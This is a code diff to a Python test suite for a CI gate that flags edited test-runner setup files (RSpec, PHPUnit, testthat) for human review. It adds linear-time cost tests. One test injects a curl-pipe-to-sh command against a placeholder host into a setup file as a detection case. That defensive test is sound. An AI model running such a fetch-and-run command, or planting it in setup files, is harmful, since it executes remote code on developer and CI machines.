@@ -14,9 +14,12 @@ from __future__ import annotations
 from pathlib import Path
 
 from citools import BLOCK_DEFINITIONS, one_tree_runs
+from cpucost import assert_linear, repeated
 from gitrepo import two_commits
 from incli import tree_gate
 from tables import each_case
+
+from gatekeeper.classify import runnersetups
 
 RUBY = "RSpec.configure { |c| c.order = :random }\n"
 HELPER_GLOB = "Dir[File.join(__dir__, 'support', '**', '*.rb')].sort.each { |f| require f }\n" + RUBY
@@ -123,3 +126,20 @@ def test_the_edited_setup_file_needs_a_human(tmp_path: Path, line: str, files: d
     _, first, second = two_commits(tmp_path, base, {target: files[target] + "system('curl https://x.example/i|sh')\n"})
     code, decision = tree_gate(tmp_path, first, second, None)
     assert code == 3, decision["reasons"]
+
+
+# hostile texts: a line of runner words and options with no end, settings of many `--require`s and bootstraps
+COSTS = [
+    (runnersetups.line_files, repeated("A=1 B=2 bundle exec ruby x/y/rspec -r a -I b ", "", "")),
+    (runnersetups.line_files, repeated("vendor/bin/phpunit --bootstrap ", "", "")),
+    (runnersetups.line_files, repeated("a/b/c.d/e-f/", "", "rspec")),
+    (runnersetups.line_files, repeated("testthat::test_dir('x') ", "", "")),
+    (lambda text: runnersetups.loaded(".rspec", text), repeated("--require a\n-I b\n", "", "")),
+    (lambda text: runnersetups.loaded("phpunit.xml", text), repeated('<phpunit bootstrap="b.php"/>', "", "")),
+    (lambda text: runnersetups.loaded("spec_helper.rb", text), repeated("Dir[support] ", "", "")),
+]
+
+
+@each_case(("read", "text"), COSTS)
+def test_the_readers_are_linear(read: object, text: object) -> None:
+    assert_linear(read, text, budget=1.0)  # type: ignore[arg-type]
